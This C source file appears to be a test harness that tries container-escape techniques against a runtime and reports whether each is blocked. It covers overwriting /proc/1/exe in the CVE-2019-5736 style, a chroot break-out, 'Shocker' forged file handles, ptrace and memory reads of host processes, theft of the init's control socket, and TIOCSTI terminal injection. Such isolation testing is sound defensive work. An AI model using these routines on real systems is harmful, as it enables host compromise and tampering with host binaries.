/* Attempts to reach the host from inside a container: its binaries, its processes, its files,
 * its terminal and the init's control socket. Usage: escape <attack> [args]. See common.h. */
#include "common.h"

#include <dirent.h>
#include <limits.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <signal.h>
#include <termios.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* CVE-2019-5736 and relatives: get a writable handle on the binary that runs as PID 1 (the init,
 * the host's own binary in a naive runtime) or on our own executable. */
static int attack_exe(void)
{
	static const char *const targets[] = { "/proc/1/exe", "/proc/self/exe" };
	char path[64], buf[4096];
	for (int k = 0; k < 2; k++) {
		const char *t = targets[k];
		int fd = open(t, O_WRONLY);
		snprintf(buf, sizeof(buf), "open %s for writing", t);
		if (fd >= 0) {
			ssize_t n = write(fd, "PWNED", 5);
			hole(buf, "open worked, write returned %zd", n);
			close(fd);
		} else {
			blocked(buf, errno);
		}
		/* an O_PATH handle reopened through /proc/self/fd, as the runc exploit does */
		fd = open(t, O_PATH);
		snprintf(buf, sizeof(buf), "reopen O_PATH %s for writing", t);
		if (fd < 0) {
			blocked(buf, errno);
			continue;
		}
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		int w = open(path, O_WRONLY);
		if (w >= 0) {
			ssize_t n = write(w, "PWNED", 5);
			hole(buf, "reopened for writing, write returned %zd", n);
			close(w);
		} else {
			blocked(buf, errno);
		}
		close(fd);
	}
	/* the init's root, cwd and fds would be ways back to whatever it holds */
	expect_fail("open /proc/1/root/", open("/proc/1/root/", O_RDONLY | O_DIRECTORY), 1);
	expect_fail("open /proc/1/cwd/", open("/proc/1/cwd/", O_RDONLY | O_DIRECTORY), 1);
	for (int fd = 0; fd < 8; fd++) { /* what the init's fds are (the control socket is 3) */
		char link[256], what[96];
		snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
		snprintf(what, sizeof(what), "readlink %s", path);
		ssize_t n = readlink(path, link, sizeof(link) - 1);
		if (n >= 0)
			hole(what, "%.*s", (int)n, link);
		else if (errno != ENOENT)
			blocked(what, errno);
	}
	expect_fail("read /proc/1/environ", open("/proc/1/environ", O_RDONLY), 1);
	expect_fail("open /proc/1/mem", open("/proc/1/mem", O_RDWR), 1);
	return finish();
}

/* Is the working directory inside our root? Walk ".." up to the top and compare with "/", then
 * try the host path the caller names (a canary file that must stay out of reach). */
static int attack_cwd(const char *canary)
{
	struct stat top, root;
	char cwd[PATH_MAX], rel[PATH_MAX + 512];
	int fd = open(".", O_PATH | O_DIRECTORY);
	if (fd < 0) {
		blocked("open cwd", errno);
		return finish();
	}
	for (int k = 0; k < 64; k++) {
		int up = openat(fd, "..", O_PATH | O_DIRECTORY);
		if (up < 0)
			break;
		close(fd);
		fd = up;
	}
	if (fstat(fd, &top) < 0 || stat("/", &root) < 0)
		return hole("stat", "%s", strerror(errno)), finish();
	if (top.st_dev != root.st_dev || top.st_ino != root.st_ino)
		hole("cwd outside the root", "the top above cwd is dev %lu ino %lu, / is dev %lu ino %lu",
		     (unsigned long)top.st_dev, (unsigned long)top.st_ino,
		     (unsigned long)root.st_dev, (unsigned long)root.st_ino);
	else
		blocked("cwd outside the root", 0);
	if (getcwd(cwd, sizeof(cwd)) == NULL)
		hole("getcwd", "unreachable working directory (%s)", strerror(errno));
	else if (cwd[0] != '/')
		hole("getcwd", "working directory outside the root: %s", cwd);
	if (canary) {
		int c = openat(fd, canary + 1, O_RDWR);
		snprintf(rel, sizeof(rel), "open host canary %s above cwd", canary);
		if (c >= 0) {
			hole(rel, "opened");
			close(c);
		} else {
			blocked(rel, errno);
		}
	}
	close(fd);
	return finish();
}

/* The classic chroot break-out (CAP_SYS_CHROOT is in Docker's default set): chroot into a
 * subdirectory, climb above it with "..", chroot there. With pivot_root and the old root
 * detached, the top must still be the container's root. */
static int attack_chroot(const char *canary)
{
	int keep;
	mkdir("/tmp/jail", 0700);
	keep = open("/", O_PATH | O_DIRECTORY);
	if (chroot("/tmp/jail") < 0) {
		blocked("chroot", errno);
	} else {
		if (fchdir(keep) < 0)
			hole("fchdir", "%s", strerror(errno));
		for (int k = 0; k < 64; k++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") < 0)
			blocked("chroot(.)", errno);
	}
	if (access(canary, F_OK) == 0)
		hole("chroot escape", "host canary %s is visible", canary);
	else
		blocked("chroot escape reaches the host canary", errno);
	return finish();
}

/* "Shocker": open_by_handle_at with a forged handle of the root inode (ext4's inode 2) and with a
 * real handle of one of our own files. Needs CAP_DAC_READ_SEARCH, which must be gone. */
static int attack_handle(void)
{
	struct {
		struct file_handle fh;
		unsigned char f[128];
	} h;
	int mount_id, dirfd = open("/", O_RDONLY | O_DIRECTORY);
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = 8;
	h.fh.handle_type = 1; /* FILEID_INO32_GEN */
	*(unsigned int *)h.f = 2;
	expect_fail("open_by_handle_at(forged root inode)",
		    syscall(SYS_open_by_handle_at, dirfd, &h.fh, O_RDONLY), 1);
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = sizeof(h.f);
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h.fh, &mount_id, 0) == 0)
		expect_fail("open_by_handle_at(own file)",
			    syscall(SYS_open_by_handle_at, dirfd, &h.fh, O_RDONLY), 1);
	else
		blocked("name_to_handle_at", errno);
	return finish();
}

/* Processes outside the container must be out of sight and out of reach; so is the init. */
static int attack_ptrace(long hostpid)
{
	char what[128], buf[16];
	struct iovec local = { buf, sizeof(buf) }, remote = { (void *)0x400000, sizeof(buf) };
	snprintf(what, sizeof(what), "kill(host pid %ld, 0)", hostpid);
	expect_fail(what, kill((pid_t)hostpid, 0), 0);
	snprintf(what, sizeof(what), "ptrace attach host pid %ld", hostpid);
	expect_fail(what, ptrace(PTRACE_ATTACH, (pid_t)hostpid, 0, 0), 0);
	snprintf(what, sizeof(what), "ptrace seize host pid %ld", hostpid);
	expect_fail(what, ptrace(PTRACE_SEIZE, (pid_t)hostpid, 0, 0), 0);
	expect_fail("ptrace attach the init (pid 1)", ptrace(PTRACE_ATTACH, 1, 0, 0), 0);
	expect_fail("process_vm_readv the init", process_vm_readv(1, &local, 1, &remote, 1, 0), 0);
	/* SIGKILL to PID 1 from inside its namespace is dropped by the kernel: it must survive */
	kill(1, SIGKILL);
	usleep(100000);
	if (kill(1, 0) == 0)
		blocked("SIGKILL the init from inside", 0);
	else
		hole("SIGKILL the init from inside", "pid 1 is gone");
	return finish();
}

/* The init's control socket (fd 3 of PID 1) is the one thing in here that talks to the host.
 * Get at it through /proc, pidfd_getfd, or the abstract unix socket namespace. */
static int attack_socket(void)
{
	char path[64];
	int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
	if (pidfd >= 0) {
		for (int fd = 0; fd < 16; fd++) {
			char what[64];
			snprintf(what, sizeof(what), "pidfd_getfd(init, %d)", fd);
			expect_fail(what, syscall(SYS_pidfd_getfd, pidfd, fd, 0), 1);
		}
		close(pidfd);
	} else {
		blocked("pidfd_open(1)", errno);
	}
	for (int fd = 0; fd < 16; fd++) {
		char what[96];
		snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
		snprintf(what, sizeof(what), "open %s", path);
		int s = open(path, O_RDWR);
		if (s >= 0) {
			hole(what, "opened");
			close(s);
		} else if (errno != ENOENT) {
			blocked(what, errno);
		}
	}
	/* every unix socket this network namespace knows: none may be the host's */
	FILE *f = fopen("/proc/net/unix", "r");
	char line[512];
	int seen = 0;
	while (f && fgets(line, sizeof(line), f)) {
		char *name = strrchr(line, ' ');
		if (!name || name[1] != '@')
			continue;
		struct sockaddr_un sa = { .sun_family = AF_UNIX };
		size_t n = strcspn(name + 2, "\n");
		if (n > sizeof(sa.sun_path) - 1)
			n = sizeof(sa.sun_path) - 1;
		memcpy(sa.sun_path + 1, name + 2, n);
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(s, (struct sockaddr *)&sa, (socklen_t)(sizeof(sa.sun_family) + 1 + n)) == 0)
			hole("connect abstract unix socket", "@%.*s", (int)n, name + 2);
		seen++;
		close(s);
	}
	if (f)
		fclose(f);
	printf("abstract sockets seen: %d\n", seen);
	/* sockets among our own fds other than stdio would be leaks from the host */
	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode))
			hole("inherited socket", "fd %d", fd);
	}
	return finish();
}

/* Every fd this process holds, with what it points to. */
static int attack_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	char path[300], target[PATH_MAX];
	if (!d)
		return hole("opendir /proc/self/fd", "%s", strerror(errno)), finish();
	while ((e = readdir(d))) {
		if (e->d_name[0] == '.' || atoi(e->d_name) == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%s", e->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("fd %s %s\n", e->d_name, target);
	}
	closedir(d);
	return finish();
}

/* TIOCSTI pushes characters into a terminal's input, to be run by whatever reads it (the host's
 * shell, when a runtime hands the container the host's terminal). Our stdio must not be a host
 * terminal and /dev/tty must not lead to one. */
static int attack_tiocsti(void)
{
	char c = '\n';
	for (int fd = 0; fd < 3; fd++) {
		char what[64], name[64] = "";
		snprintf(what, sizeof(what), "TIOCSTI on fd %d", fd);
		if (ioctl(fd, TIOCSTI, &c) < 0) {
			blocked(what, errno);
			continue;
		}
		/* allowed only on a terminal of the container's own devpts */
		if (ttyname_r(fd, name, sizeof(name)) == 0 && strncmp(name, "/dev/pts/", 9) == 0) {
			struct stat st, pts;
			if (fstat(fd, &st) == 0 && stat("/dev/pts/ptmx", &pts) == 0 && st.st_dev == pts.st_dev) {
				printf("own-pty %s: injected into the container's own terminal\n", name);
				continue;
			}
		}
		hole(what, "injected into %s, not a terminal of the container's own devpts", name);
	}
	int t = open("/dev/tty", O_RDWR | O_NOCTTY);
	if (t >= 0) {
		/* /dev/tty is the session's controlling terminal: fine if that is our own pty */
		struct stat st0, pts;
		pid_t sid = -1;
		char name[64] = "";
		if (ioctl(t, TIOCGSID, &sid) == 0 && sid == getsid(0) && fstat(0, &st0) == 0 &&
		    stat("/dev/pts/ptmx", &pts) == 0 && st0.st_dev == pts.st_dev &&
		    ttyname_r(0, name, sizeof(name)) == 0 && ioctl(0, TIOCGSID, &sid) == 0 && sid == getsid(0))
			printf("own-pty /dev/tty is the container's own terminal %s\n", name);
		else
			hole("open /dev/tty", "a terminal that is not the container's own");
		close(t);
	} else {
		blocked("open /dev/tty", errno);
	}
	expect_fail("open /dev/console", open("/dev/console", O_WRONLY | O_NOCTTY), 1);
	expect_fail("open /dev/tty1", open("/dev/tty1", O_WRONLY | O_NOCTTY), 1);
	return finish();
}

int main(int argc, char **argv)
{
	const char *a = argc > 1 ? argv[1] : "";
	if (!strcmp(a, "exe"))
		return attack_exe();
	if (!strcmp(a, "cwd"))
		return attack_cwd(argc > 2 ? argv[2] : NULL);
	if (!strcmp(a, "chroot") && argc > 2)
		return attack_chroot(argv[2]);
	if (!strcmp(a, "handle"))
		return attack_handle();
	if (!strcmp(a, "ptrace") && argc > 2)
		return attack_ptrace(atol(argv[2]));
	if (!strcmp(a, "socket"))
		return attack_socket();
	if (!strcmp(a, "fds"))
		return attack_fds();
	if (!strcmp(a, "tiocsti"))
		return attack_tiocsti();
	fprintf(stderr, "usage: escape exe|cwd [canary]|chroot canary|handle|ptrace pid|socket|fds|tiocsti\n");
	return 125;
}
